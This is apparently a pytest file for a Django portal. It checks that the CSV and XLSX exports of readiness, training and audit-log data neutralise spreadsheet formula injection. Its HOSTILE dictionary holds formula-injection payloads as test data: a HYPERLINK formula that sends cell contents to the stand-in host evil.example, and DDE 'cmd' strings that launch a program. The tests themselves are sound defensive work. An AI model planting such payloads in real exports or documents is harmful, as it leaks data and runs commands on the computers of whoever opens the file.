"""No export carries a live spreadsheet formula (issue 14, "Exports"; core/exports.py).

Every text field that reaches a CSV or XLSX file (the region's readiness export, a unit's
training year, a case's log extract) is given a value starting with =, +, -, @, a tab or a
carriage return. In XLSX no cell is of type "f" and the text is kept as typed; in CSV no cell
starts with one of those characters (the apostrophe in front makes it text)."""

import csv
import datetime
import io

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS, Table, csv_bytes, csv_text, xlsx_bytes

from .conftest import world  # noqa: F401

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def make_everything_hostile(w, value):
    """The value in every free-text field the three exports write."""
    from mandates.models import MandateArea

    w.unit.name = value
    w.unit.save(update_fields=["name"])
    MandateArea.objects.filter(slug=w.area_slug).update(name=value)
    session = w.training_session
    session.title, session.summary = value, value
    session.save(update_fields=["title", "summary"])
    session.items.update(notes=value)
    w.item.text = value
    w.item.save(update_fields=["text"])
    action = w.training_action
    action.what, action.who, action.checklist_item = value, value, w.item
    action.save(update_fields=["what", "who", "checklist_item"])
    owner = w.users["case_owner"]
    owner.username, owner.first_name = value, value
    owner.save(update_fields=["username", "first_name"])
    from samverkan.models import AuditAction
    from samverkan.services.audit import audit

    audit(who=owner, case=w.case, action=AuditAction.VIEWED, detail=value)


def exports(w):
    """(name, role, url) of every CSV and XLSX the portal hands out."""
    year = w.training_session.date.year
    unit = w.unit.pk
    return [
        ("beredskap.csv", "region_strategist", reverse("checklists:dashboard_csv")),
        ("beredskap.xlsx", "region_strategist", reverse("checklists:dashboard_xlsx")),
        ("utbildning.csv", "familjeombud", reverse("training:export_csv", args=[unit, year])),
        ("utbildning.xlsx", "familjeombud", reverse("training:export_xlsx", args=[unit, year])),
        ("loggutdrag.csv", "case_owner", reverse("auditlog:case_extract_csv", args=[w.case.pk])),
    ]


@pytest.mark.parametrize("start", HOSTILE, ids=list(HOSTILE))
def test_no_export_holds_a_formula_whatever_the_text_starts_with(world, start):  # noqa: F811
    value = HOSTILE[start]
    make_everything_hostile(world, value)
    cache.clear()
    for name, role, url in exports(world):
        client = Client()
        client.force_login(world.users[role])
        response = client.get(url)
        assert response.status_code == 200, name
        if name.endswith(".xlsx"):
            cells = xlsx_cells(response.content)
            formulas = [c.coordinate for c in cells if c.data_type == "f"]
            assert not formulas, f"{name}: formler i {formulas}"
            # XML reads a carriage return back as a line feed; the cell is text all the same.
            texts = [c.value for c in cells if c.data_type == "s"]
            assert value.replace("\r", "\n") in texts, f"{name}: texten finns inte som text"
        else:
            cells = csv_cells(response.content)
            live = [c for c in cells if c.startswith(FORMULA_STARTS)]
            assert not live, f"{name}: {live}"
            assert "'" + value in cells, f"{name}: texten finns inte neutraliserad"


def test_a_formula_like_text_is_kept_as_typed_in_xlsx_and_marked_as_text():
    content = xlsx_bytes(Table("Blad", ["Rubrik"], [["=1+1"], ["vanlig"]]))
    cells = xlsx_cells(content)
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("Rubrik", "s", False),
        ("=1+1", "s", True),
        ("vanlig", "s", False),
    ]


def test_numbers_and_dates_stay_numbers_and_dates():
    day = datetime.date(2026, 3, 10)
    cells = xlsx_cells(xlsx_bytes(Table("Blad", ["a", "b"], [[-3, day]])))
    assert [(c.value, c.data_type) for c in cells[2:]] == [
        (-3, "n"),
        (datetime.datetime(2026, 3, 10), "d"),
    ]
    assert [csv_text(-3), csv_text(day), csv_text(None), csv_text("-3")] == [
        "-3",
        "2026-03-10",
        "",
        "'-3",
    ]


def test_csv_tables_follow_each_other_with_a_blank_line_and_a_byte_order_mark():
    content = csv_bytes(Table("A", ["x"], [["1"]]), Table("B", ["y"], [["2"]]))
    assert content == "\ufeffx\r\n1\r\n\r\ny\r\n2\r\n".encode()
